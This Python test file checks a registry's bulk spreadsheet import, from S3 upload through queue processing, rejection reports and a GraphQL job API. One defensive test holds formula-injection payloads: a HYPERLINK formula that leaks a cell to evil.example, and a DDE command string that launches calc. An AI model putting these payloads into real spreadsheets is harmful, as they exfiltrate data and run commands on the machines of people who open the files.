"""Bulk import end to end on the embedded cloud: a file put into the imports bucket -> S3 notification
-> ImportsQueue -> the event pump -> functions/registry_import.py -> rows in the registries, a job
with its counts, and the report in the bucket. GraphQL for import jobs at the end.
"""

import csv
import io
import json
from dataclasses import dataclass
from datetime import date

import pytest
import requests
from factories import (
    audit_log,
    entity_row,
    new_credit_code,
    new_id_number,
    official,
    person_row,
    recording_handlers,
)
from openpyxl import Workbook
from starlette.testclient import TestClient
from strawberry.relay import from_base64

from sunflower.auth.principals import SYSTEM, Role
from sunflower.aws.clients import client
from sunflower.common.settings import get_settings
from sunflower.container import services
from sunflower.local.pump import EventPump
from sunflower.registries.imports import ImportJob, ImportStatus
from sunflower.registries.spreadsheets import Limits

CHINESE = {
    "name": "姓名", "id_number": "身份证号", "phone": "联系电话", "current_community_id": "社区编码",
    "current_community": "社区", "current_building": "楼栋", "current_unit": "单元", "current_room": "房号",
    "registered_district": "户籍区县", "registered_detail": "户籍地址",
}
ENGLISH = {
    "name": "Name", "id_number": "ID Number", "phone": "Phone", "current_community_id": "Community ID",
    "current_community": "Community", "current_building": "Building", "current_unit": "Unit", "current_room": "Room",
    "registered_district": "Registered District", "registered_detail": "Registered Address",
}


@dataclass(frozen=True)
class Uploaded:
    key: str
    etag: str


@pytest.fixture
def pump(local_cloud):
    recorded: list[dict] = []
    pump = EventPump(local_cloud.catalog, recording_handlers(recorded))
    pump.drain()  # S3's test event, sent when the notification was connected
    pump.recorded = recorded
    yield pump
    pump.stop()


def bucket() -> str:
    return get_settings().bucket("imports")


def upload(body: bytes, *, kind: str = "person", department: str = "平房区民政局", name: str = "人口.csv",
           key: str | None = None) -> Uploaded:
    key = key or f"incoming/{kind}/{department}/{name}"
    etag = client("s3").put_object(Bucket=bucket(), Key=key, Body=body)["ETag"].strip('"')
    return Uploaded(key, etag)


def imported(pump: EventPump, uploaded: Uploaded, *, timeout_s: float = 120) -> ImportJob:
    pump.drain(timeout_s=timeout_s)
    job = services().imports.job_of_upload(uploaded.key, uploaded.etag)
    assert job is not None, "no job for the upload"
    return job


def csv_file(rows: list[dict[str, str]], headers: dict[str, str] = CHINESE, *, encoding: str = "utf-8",
             extra: dict[str, str] | None = None) -> bytes:
    fields = [f for f in headers if any(f in r for r in rows)]
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([headers[f] for f in fields] + list(extra or {}))
    for row in rows:
        writer.writerow([row.get(f, "") for f in fields] + list((extra or {}).values()))
    return out.getvalue().encode(encoding)


def xlsx_file(*rows: list) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def registered(id_number: str):
    view = services().registries.person_by_id_number(SYSTEM, id_number, "test check")
    return view.person if view else None


def report_rows(job: ImportJob) -> list[list[str]]:
    body = client("s3").get_object(Bucket=bucket(), Key=job.report_key)["Body"].read()
    assert body.startswith(b"\xef\xbb\xbf"), "the report CSV starts with a BOM so that Excel reads it as UTF-8"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1:]


def summary(job: ImportJob) -> dict:
    return json.loads(client("s3").get_object(Bucket=bucket(), Key=job.summary_key)["Body"].read())


def dead_letters(local_cloud) -> list[dict]:
    sqs = client("sqs")
    url = sqs.get_queue_url(QueueName=local_cloud.catalog.name_of("ImportsDeadLetterQueue"))["QueueUrl"]
    return sqs.receive_message(QueueUrl=url, MaxNumberOfMessages=10).get("Messages", [])


# --- files that import ---------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_given_a_csv_with_chinese_headers_in_any_accepted_encoding_when_uploaded_then_every_row_is_registered(
    pump, encoding
):
    # given
    people = [person_row(name=name) for name in ("张伟", "李秀英", "王芳")]

    # when
    job = imported(pump, upload(csv_file(people, encoding=encoding)))

    # then
    assert (job.status, job.total, job.accepted, job.unchanged, job.rejected) == (ImportStatus.SUCCEEDED, 3, 3, 0, 0)
    assert job.department == "平房区民政局" and job.kind.value == "person"
    for row in people:
        person = registered(row["id_number"])
        assert person.name == row["name"]
        assert person.current_address.community == "幸福社区"
        assert person.registered_address.detail == "友协大街101号"


def test_given_an_xlsx_with_chinese_headers_when_uploaded_then_its_rows_are_registered_with_dates_and_numbers_as_text(pump):
    # given a workbook where Excel typed the birth date as a date and the phone as a number
    number = new_id_number(born=date(1990, 3, 7))
    other = new_id_number()
    data = xlsx_file(
        ["姓名", "身份证号", "出生日期", "联系电话", "社区编码", "楼栋"],
        ["赵敏", number, date(1990, 3, 7), 13812345678, "pf-youxie-xingfu", 3],
        ["钱进", other, None, None, "pf-youxie-xingfu", 12],
    )

    # when
    job = imported(pump, upload(data, name="人口.xlsx"))

    # then
    assert (job.status, job.accepted, job.rejected) == (ImportStatus.SUCCEEDED, 2, 0)
    person = registered(number)
    assert person.phone == "13812345678"
    assert person.birth_date == date(1990, 3, 7)
    assert person.current_address.building == "3"


def test_given_english_headers_when_uploaded_then_rows_import_as_with_chinese_ones(pump):
    people = [person_row(), person_row()]
    job = imported(pump, upload(csv_file(people, ENGLISH), name="people.csv"))
    assert (job.accepted, job.rejected) == (2, 0)
    assert registered(people[1]["id_number"]).current_address.room == "501"


# --- rows that do not import, beside rows that do ------------------------------------------------


def test_given_invalid_rows_among_valid_ones_when_imported_then_each_is_reported_by_line_and_the_valid_ones_are_written(pump):
    # given lines 3, 5 and 6 are wrong in different ways
    good = [person_row(), person_row(), person_row()]
    rows = [
        good[0],
        person_row(name=""),
        good[1],
        person_row(phone="12345"),
        person_row(id_number="2.30108199001011E+17"),
        good[2],
    ]

    # when
    job = imported(pump, upload(csv_file(rows, extra={"备注": "x"})))

    # then the counts
    assert (job.status, job.total, job.accepted, job.rejected) == (ImportStatus.SUCCEEDED, 6, 3, 3)
    assert job.unknown_columns == ("备注",)
    # and every valid neighbour is registered, no invalid row is
    assert all(registered(r["id_number"]) for r in good)
    assert registered(rows[3]["id_number"]) is None
    # and the report lists each rejected row with its line, reasons and cells as uploaded
    report = report_rows(job)
    assert [(r[0], r[2]) for r in report] == [("3", ""), ("5", rows[3]["name"]), ("6", rows[4]["name"])]
    assert report[0][1] == "name: is required"
    assert report[1][1].startswith("phone: ")
    assert "format the column as text" in report[2][1]
    # and the JSON summary has the counts and every rejected row
    assert summary(job) | {"rejected_rows": None} == summary(job) | {
        "job_id": job.id, "status": "succeeded", "accepted": 3, "rejected": 3, "total": 6, "unchanged": 0,
        "file_error": None, "unknown_columns": ["备注"], "rejected_rows": None,
    }
    assert [r["line"] for r in summary(job)["rejected_rows"]] == [3, 5, 6]


def test_given_duplicate_rows_in_one_file_when_imported_then_the_first_is_written_and_later_ones_rejected(pump, monkeypatch):
    # given chunks of two rows, so duplicates fall both in the same chunk and in later ones
    monkeypatch.setattr(services().imports, "_chunk_rows", 2)
    first = person_row(phone="13800000001")
    rows = [first, {**first, "phone": "13800000002"}, person_row(), {**first, "phone": "13800000003"}, person_row()]

    # when
    job = imported(pump, upload(csv_file(rows)))

    # then
    assert (job.accepted, job.rejected) == (3, 2)
    assert [(r[0], r[1]) for r in report_rows(job)] == [
        ("3", "id_number: same person as line 2"), ("5", "id_number: same person as line 2"),
    ]
    assert registered(first["id_number"]).phone == "13800000001"


def test_given_a_duplicate_of_a_rejected_row_when_imported_then_the_valid_one_is_written(pump):
    # given line 2 is rejected (bad phone), line 3 is the same person stated correctly
    rows = [person_row(phone="123"), None]
    rows[1] = {**rows[0], "phone": "13800000009"}

    # when
    job = imported(pump, upload(csv_file(rows)))

    # then nothing valid was lost because of its neighbour
    assert (job.accepted, job.rejected) == (1, 1)
    assert registered(rows[0]["id_number"]).phone == "13800000009"


def test_given_entities_whose_legal_representative_does_not_exist_when_imported_then_those_rows_are_rejected(pump):
    # given one representative registered, one not
    known = person_row()
    imported(pump, upload(csv_file([known]), name="reps.csv"))
    unknown_number = new_id_number()
    entities = [entity_row(known["id_number"]), entity_row(unknown_number)]
    headers = {"name": "名称", "credit_code": "统一社会信用代码", "legal_rep_id_number": "法定代表人身份证号",
               "entity_type": "企业类型", "registered_capital": "注册资本（万元）", "industry_code": "行业代码",
               "established_on": "成立日期", "address_district": "区县", "address_detail": "住所"}

    # when
    job = imported(pump, upload(csv_file(entities, headers), kind="entity", department="平房区市场监督管理局", name="企业.csv"))

    # then
    assert (job.accepted, job.rejected) == (1, 1)
    ((line, reason, *_),) = report_rows(job)
    assert line == "3"
    masked = unknown_number[:6] + "********" + unknown_number[-4:]
    assert reason == f"legal_rep_id_number: {masked} is not in the population registry"
    assert services().registries.entity_by_code(official(), entities[0]["credit_code"]).legal_rep_name == known["name"]


def test_given_credit_records_naming_people_and_entities_when_imported_then_known_subjects_get_them(pump):
    # given a registered person and entity, and a subject nobody registered
    person = person_row()
    imported(pump, upload(csv_file([person]), name="p.csv"))
    entity = entity_row(person["id_number"])
    imported(pump, upload(csv_file([entity], {k: k for k in entity}), kind="entity", name="e.csv"))
    data = (
        "主体代码,信用类别,决定日期,决定机关,决定书文号,内容摘要\r\n"
        f"{person['id_number']},表彰,2025-03-01,平房区人民政府,平政奖〔2025〕1号,见义勇为\r\n"
        f"{entity['credit_code']},行政处罚,2025-04-01,平房区市场监督管理局,平市监罚〔2025〕7号,\r\n"
        f"{new_credit_code()},行政处罚,2025-04-02,平房区市场监督管理局,平市监罚〔2025〕8号,\r\n"
    ).encode()

    # when
    job = imported(pump, upload(data, kind="credit", name="信用.csv"))

    # then
    assert (job.accepted, job.rejected) == (2, 1)
    assert [(r[0], r[1]) for r in report_rows(job)] == [("4", "subject: not in the legal-entity registry")]


def test_given_formula_cells_when_imported_then_the_rows_are_rejected_and_the_report_neutralises_them(pump):
    # given
    evil = person_row(name='=HYPERLINK("http://evil.example/?"&B2,"点击")')
    plus = person_row(current_room="+cmd|' /C calc'!A0")
    rows = [evil, person_row(), plus]

    # when
    job = imported(pump, upload(csv_file(rows)))

    # then
    assert (job.accepted, job.rejected) == (1, 2)
    report = report_rows(job)
    assert report[0][0] == "2" and report[0][1].startswith("name: ")
    assert report[0][2] == "'" + evil["name"]  # inert in Excel: the leading quote makes it text
    assert report[1][0] == "4"
    assert "'+cmd|' /C calc'!A0" in report[1]
    for row in report:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_given_an_xlsx_where_excel_turned_id_numbers_into_floats_when_imported_then_those_rows_say_how_to_fix_it(pump):
    # given the second person's id number typed into a General-format cell
    ok, mangled = person_row(), person_row()
    data = xlsx_file(["姓名", "身份证号"], [ok["name"], ok["id_number"]], [mangled["name"], float(mangled["id_number"][:17])])

    # when
    job = imported(pump, upload(data, name="人口.xlsx"))

    # then
    assert (job.accepted, job.rejected) == (1, 1)
    ((line, reason, *_),) = report_rows(job)
    assert line == "3"
    assert reason.startswith("id_number: Excel stored ") and "format the column as text" in reason


# --- idempotency -----------------------------------------------------------------------------------


def test_given_an_imported_file_when_the_same_bytes_are_uploaded_again_then_every_row_is_unchanged_and_nothing_is_audited(pump):
    # given
    data = csv_file([person_row(), person_row()])
    first = imported(pump, upload(data))
    entries = len(audit_log())

    # when the same file is uploaded to the same key again
    second = imported(pump, upload(data))

    # then it is a new job of its own, which changed nothing
    assert second.id != first.id and second.etag == first.etag
    assert (first.accepted, first.unchanged) == (2, 0)
    assert (second.status, second.accepted, second.unchanged, second.rejected) == (ImportStatus.SUCCEEDED, 0, 2, 0)
    assert len(audit_log()) == entries


def test_given_an_s3_event_delivered_twice_when_pumped_then_the_file_is_imported_once(pump, local_cloud):
    # given an upload imported once
    uploaded = upload(csv_file([person_row(), person_row()]))
    job = imported(pump, uploaded)
    (event,) = [e for e in pump.recorded if "ObjectCreated" in e["Records"][0]["body"]]
    entries = len(audit_log())

    # when S3's announcement of it arrives again (at-least-once delivery)
    sqs = client("sqs")
    queue = sqs.get_queue_url(QueueName=local_cloud.catalog.name_of("ImportsQueue"))["QueueUrl"]
    sqs.send_message(QueueUrl=queue, MessageBody=event["Records"][0]["body"])
    again = imported(pump, uploaded)

    # then the handler was invoked but did not import again
    assert len(pump.recorded) == 3
    assert again == job
    assert again.attempts == 1
    assert len(audit_log()) == entries
    assert services().imports.jobs_for_key(official(), uploaded.key, limit=10).items == [job]


def test_given_a_fault_mid_file_when_imported_then_the_job_fails_and_the_retry_finishes_it(pump, local_cloud, monkeypatch):
    # given chunks of two rows and a registry that fails on the second chunk, once
    imports, registries = services().imports, services().registries
    monkeypatch.setattr(imports, "_chunk_rows", 2)
    real, calls = registries.import_rows, []

    def flaky(*args, **kwargs):
        calls.append(1)
        if len(calls) == 2:
            raise ConnectionError("DynamoDB went away")
        return real(*args, **kwargs)

    monkeypatch.setattr(registries, "import_rows", flaky)
    sqs = client("sqs")
    queue = sqs.get_queue_url(QueueName=local_cloud.catalog.name_of("ImportsQueue"))["QueueUrl"]
    sqs.set_queue_attributes(QueueUrl=queue, Attributes={"VisibilityTimeout": "1"})  # retry soon
    people = [person_row() for _ in range(5)]
    uploaded = upload(csv_file(people))

    # when the first attempt fails
    source = next(s for s in pump.sources if s.queue == "ImportsQueue")
    pump.poll(source)
    failed = services().imports.job_of_upload(uploaded.key, uploaded.etag)

    # then the job says so (without any row data) and the message is retried
    assert failed.status is ImportStatus.FAILED and failed.file_error is None
    assert failed.error == "the import stopped on an internal fault (ConnectionError); it is retried automatically"

    # and when it is delivered again, the import finishes; rows written before the fault are unchanged
    job = imported(pump, uploaded, timeout_s=30)
    assert (job.status, job.attempts, job.total) == (ImportStatus.SUCCEEDED, 2, 5)
    assert (job.accepted, job.unchanged, job.rejected) == (3, 2, 0)
    assert all(registered(p["id_number"]) for p in people)
    assert dead_letters(local_cloud) == []


def test_while_a_file_imports_the_job_shows_progress_after_every_chunk(pump, monkeypatch):
    # given
    imports = services().imports
    monkeypatch.setattr(imports, "_chunk_rows", 2)
    saved: list[tuple] = []
    real_save = imports._jobs.save

    def noting(job):
        saved.append((job.status.value, job.processed, job.total, job.progress))
        return real_save(job)

    monkeypatch.setattr(imports._jobs, "save", noting)

    # when
    imported(pump, upload(csv_file([person_row() for _ in range(5)])))

    # then
    assert saved == [
        ("running", 0, 0, 0.0),
        ("running", 0, 5, 0.0),
        ("running", 2, 5, 0.4),
        ("running", 4, 5, 0.8),
        ("running", 5, 5, 1.0),
        ("succeeded", 5, 5, 1.0),
    ]


# --- files that do not import --------------------------------------------------------------------


@pytest.mark.parametrize(
    "body, key, reason",
    [
        (b"", None, "the file is empty"),
        ("姓名,身份证号\r\n".encode(), None, "the file has a header row (line 1) but no data rows below it"),
        (b"%PDF-1.7\n1 0 obj <<>> endobj", None,
         "the file is not a CSV or XLSX spreadsheet (it looks like a PDF document)"),
        ("姓名,身份证号\r\n".encode() + "Müller,1\r\n".encode("latin-1") + b"\xff\xfe", None,
         "the text is neither UTF-8 nor GB18030"),
        ("名称,身份证号\r\nx,y\r\n".encode(), None, "missing required columns: 姓名 (name)"),
        ("姓名,身份证号\r\nx,y\r\n".encode(), "incoming/people/民政局/x.csv",
         "upload files to incoming/{person|entity|credit}/{department}/{file name}"),
    ],
)
def test_given_a_file_that_cannot_be_imported_when_uploaded_then_the_job_fails_with_the_reason_and_is_not_retried(
    pump, local_cloud, body, key, reason
):
    # when
    job = imported(pump, upload(body, key=key))

    # then
    assert job.status is ImportStatus.FAILED
    assert job.file_error.startswith(reason)
    assert summary(job)["file_error"] == job.file_error
    assert report_rows(job) == []
    assert not any(pump.pending().values()) and dead_letters(local_cloud) == []


def test_given_a_file_over_the_size_limit_when_uploaded_then_it_is_refused_unread(pump, monkeypatch):
    # given a 1 KB limit rather than a 50 MB file
    monkeypatch.setattr(services().imports, "limits", Limits(max_bytes=1024))

    # when
    job = imported(pump, upload(csv_file([person_row() for _ in range(20)])))

    # then
    assert job.status is ImportStatus.FAILED
    assert job.file_error.endswith("over the 0 MB limit; split it into smaller files")
    assert job.file_error.startswith("the file is 0.0 MB")


# --- GraphQL -------------------------------------------------------------------------------------


@dataclass
class Api:
    client: TestClient
    identity: object

    def token(self, *roles: Role, department: str | None = None, user: str = "clerk-1") -> str:
        from sunflower.local.identity import issue_token

        return issue_token(self.identity.user_pool_id, self.identity.client_id, user=user, roles=list(roles),
                           department=department)

    def run(self, query: str, variables: dict | None = None, *, token: str) -> dict:
        response = self.client.post("/graphql", json={"query": query, "variables": variables or {}},
                                    headers={"Authorization": f"Bearer {token}"})
        assert response.status_code == 200, response.text
        return response.json()


@pytest.fixture
def api(local_cloud):
    from sunflower.api.app import create_app

    return Api(TestClient(create_app()), local_cloud.identity)


REQUEST_UPLOAD = """
mutation Upload($kind: ImportKind!, $fileName: String!) {
  requestImportUpload(kind: $kind, fileName: $fileName) {
    __typename
    ... on ImportUpload { key url method expiresAt }
    ... on Error { code message }
  }
}"""

JOBS_OF_KEY = """
query Jobs($key: String) {
  importJobs(first: 5, sourceKey: $key) {
    edges { node { id kind status fileName department total processed accepted unchanged rejected progress
                   fileError unknownColumns reportUrl summaryUrl } }
  }
}"""


def test_an_official_uploads_through_a_presigned_url_and_follows_the_job_to_its_report(api, pump):
    # given
    token = api.token(Role.OFFICIAL, department="民政局")
    people = [person_row(), person_row(phone="1")]

    # when an upload URL is requested and the file PUT to it
    ticket = api.run(REQUEST_UPLOAD, {"kind": "PERSON", "fileName": "2025 人口 (更新).csv"}, token=token)
    upload_ = ticket["data"]["requestImportUpload"]
    assert upload_["__typename"] == "ImportUpload" and upload_["method"] == "PUT"
    assert upload_["key"].startswith("incoming/person/民政局/") and upload_["key"].endswith("-2025_人口_更新.csv")
    assert requests.put(upload_["url"], data=csv_file(people), timeout=10).status_code == 200
    pump.drain(timeout_s=60)

    # then the job is found by its key, with its counts and a report to download
    (edge,) = api.run(JOBS_OF_KEY, {"key": upload_["key"]}, token=token)["data"]["importJobs"]["edges"]
    job = edge["node"]
    assert {k: job[k] for k in ("kind", "status", "department", "total", "processed", "accepted", "unchanged",
                                "rejected", "progress", "fileError", "unknownColumns")} == {
        "kind": "PERSON", "status": "SUCCEEDED", "department": "民政局", "total": 2, "processed": 2, "accepted": 1,
        "unchanged": 0, "rejected": 1, "progress": 1.0, "fileError": None, "unknownColumns": [],
    }
    report = requests.get(job["reportUrl"], timeout=10)
    assert report.status_code == 200
    # and handing out links to rejected rows (personal data as uploaded) was audited
    exports = [e for e in audit_log() if e["action"] == "export"]
    assert sorted(e["detail"]["format"] for e in exports) == ["csv", "json"]
    assert {(e["subject_type"], e["subject_id"], e["actor"]) for e in exports} == {
        ("import_report", from_base64(job["id"])[1], "person:clerk-1")
    }
    assert report.content.decode("utf-8-sig").splitlines()[1].startswith('"3","phone: ')
    assert requests.get(job["summaryUrl"], timeout=10).json()["rejected"] == 1

    # and the same job by id
    by_id = api.run("query($id: ID!) { importJob(id: $id) { id accepted } node(id: $id) { ... on ImportJob { rejected } } }",
                    {"id": job["id"]}, token=token)["data"]
    assert by_id == {"importJob": {"id": job["id"], "accepted": 1}, "node": {"rejected": 1}}


def test_import_jobs_list_newest_first_for_officials_only(api, pump):
    # given two imports
    first = imported(pump, upload(csv_file([person_row()]), name="a.csv"))
    second = imported(pump, upload(csv_file([person_row()]), name="b.csv"))

    # when
    listed = api.run("{ importJobs(first: 1) { edges { node { fileName } } pageInfo { hasNextPage endCursor } } }",
                     token=api.token(Role.OFFICIAL))["data"]["importJobs"]
    rest = api.run("query($after: String) { importJobs(first: 5, after: $after) { edges { node { fileName } } } }",
                   {"after": listed["pageInfo"]["endCursor"]}, token=api.token(Role.OFFICIAL))["data"]["importJobs"]
    denied = api.run("{ importJobs { edges { node { id } } } }", token=api.token(Role.POLICE))

    # then
    assert [e["node"]["fileName"] for e in listed["edges"]] == [second.file_name]
    assert listed["pageInfo"]["hasNextPage"] is True
    assert [e["node"]["fileName"] for e in rest["edges"]] == [first.file_name]
    assert denied["errors"][0]["extensions"]["code"] == "PERMISSION_DENIED"


def test_an_upload_url_is_only_for_officials_and_spreadsheet_files(api):
    # when
    wrong_type = api.run(REQUEST_UPLOAD, {"kind": "ENTITY", "fileName": "scan.pdf"}, token=api.token(Role.OFFICIAL))
    not_official = api.run(REQUEST_UPLOAD, {"kind": "PERSON", "fileName": "a.csv"}, token=api.token(Role.COMMUNITY_STAFF))

    # then
    assert wrong_type["data"]["requestImportUpload"] == {
        "__typename": "ValidationError", "code": "VALIDATION_FAILED",
        "message": "fileName: upload a .csv or .xlsx file (save other formats as one of these)",
    }
    assert not_official["errors"][0]["extensions"]["code"] == "PERMISSION_DENIED"
    assert not_official["data"] is None


def test_an_unknown_import_job_is_null(api):
    from strawberry.relay import to_base64

    result = api.run("query($id: ID!) { importJob(id: $id) { id } }", {"id": to_base64("ImportJob", "nope")},
                     token=api.token(Role.OFFICIAL))
    assert result == {"data": {"importJob": None}}
